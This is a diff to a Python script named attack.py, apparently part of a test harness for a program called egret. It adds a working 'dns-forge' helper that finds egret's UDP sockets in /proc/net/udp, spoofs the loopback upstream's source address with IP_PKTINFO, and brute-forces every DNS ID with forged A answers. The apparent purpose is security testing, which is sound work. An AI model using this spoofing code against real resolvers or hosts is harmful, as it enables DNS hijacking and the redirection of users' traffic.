@@ -67,6 +67,14 @@ Other helpers (different arguments):
         the driver directly, past every netfilter hook. Prints {"sent":
         true, "queue": Q} once the kernel reports the frame transmitted, or
         {"sent": false, "detail": ...} with every queue's error.
+  attack.py dns-forge UPSTREAM PORT NAME FORGED SECONDS
+        forged DNS answers (NAME A FORGED) "from" the loopback upstream
+        UPSTREAM:PORT (IPv4): binds another 127/8 address at PORT (no
+        privilege), finds egret's UDP sockets connected to the upstream in
+        /proc/net/udp and sweeps every DNS ID at each with IP_PKTINFO
+        setting the source to UPSTREAM, for at most SECONDS. Prints
+        "ready", then once a second {"targets": N, "sent": M} (sockets
+        seen so far, datagrams sent).
   attack.py rcvmark ADDR PORT
         a UDP socket with SO_RCVMARK: prints "ready", then one JSON line
         {"mark": N} for the first datagram (N = -1 when no mark came).
@@ -250,6 +258,66 @@ def hostile(kind, addr, port):
             if len(data) >= 12:
                 # Same ID, QR set, NOERROR, the question echoed, no answer.
                 s.sendto(data[:2] + b"\x81\x80" + data[4:], peer)
+
+
+def dns_name(name):
+    out = b""
+    for label in name.strip(".").split("."):
+        out += bytes([len(label)]) + label.encode()
+    return out + b"\0"
+
+
+def upstream_sockets(upstream, port):
+    """(local ip, local port) of every UDP socket in this namespace
+    connected to upstream:port, read from /proc/net/udp (world-readable)."""
+    want = "%08X:%04X" % (struct.unpack("<I", socket.inet_aton(upstream))[0], port)
+    found = []
+    with open("/proc/net/udp") as f:
+        for line in f.readlines()[1:]:
+            cols = line.split()
+            if cols[2] != want:
+                continue
+            hexip, hexport = cols[1].split(":")
+            ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
+            found.append((ip, int(hexport, 16)))
+    return found
+
+
+def dns_forge(upstream, port, name, forged, seconds):
+    IP_PKTINFO = 8
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    octets = upstream.split(".")
+    decoy = "127.0.0.%d" % (12 if octets[3] != "12" else 13)
+    s.bind((decoy, port))
+    s.setblocking(False)
+    # struct in_pktinfo { int ifindex; in_addr spec_dst; in_addr addr; }
+    pktinfo = struct.pack("=i4s4s", 0, socket.inet_aton(upstream), b"\0" * 4)
+    anc = [(socket.IPPROTO_IP, IP_PKTINFO, pktinfo)]
+    q = dns_name(name) + b"\x00\x01\x00\x01"
+    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04" + socket.inet_aton(forged)
+    body = b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q + answer
+    packets = [struct.pack(">H", i) + body for i in range(65536)]
+    print("ready", flush=True)
+    end = time.monotonic() + seconds
+    seen, sent, last = set(), 0, time.monotonic()
+    while time.monotonic() < end:
+        targets = upstream_sockets(upstream, port)
+        seen.update(targets)
+        if not targets:
+            time.sleep(0.005)
+        for t in targets:
+            for pkt in packets:
+                try:
+                    s.sendmsg([pkt], anc, 0, t)
+                    sent += 1
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    break
+        if time.monotonic() - last >= 1:
+            last = time.monotonic()
+            print(json.dumps({"targets": len(seen), "sent": sent}), flush=True)
+    print(json.dumps({"targets": len(seen), "sent": sent}), flush=True)
 
 
 def rcvmark(addr, port):
@@ -559,6 +627,9 @@ def main():
         return nd(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), hbh)
     if sys.argv[1] in ("hostile-tcp", "hostile-udp"):
         return hostile(sys.argv[1][8:], sys.argv[2], int(sys.argv[3]))
+    if sys.argv[1] == "dns-forge":
+        a = sys.argv
+        return dns_forge(a[2], int(a[3]), a[4], a[5], float(a[6]))
     if sys.argv[1] == "rcvmark":
         return rcvmark(sys.argv[2], int(sys.argv[3]))
     technique, remote, port, local = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
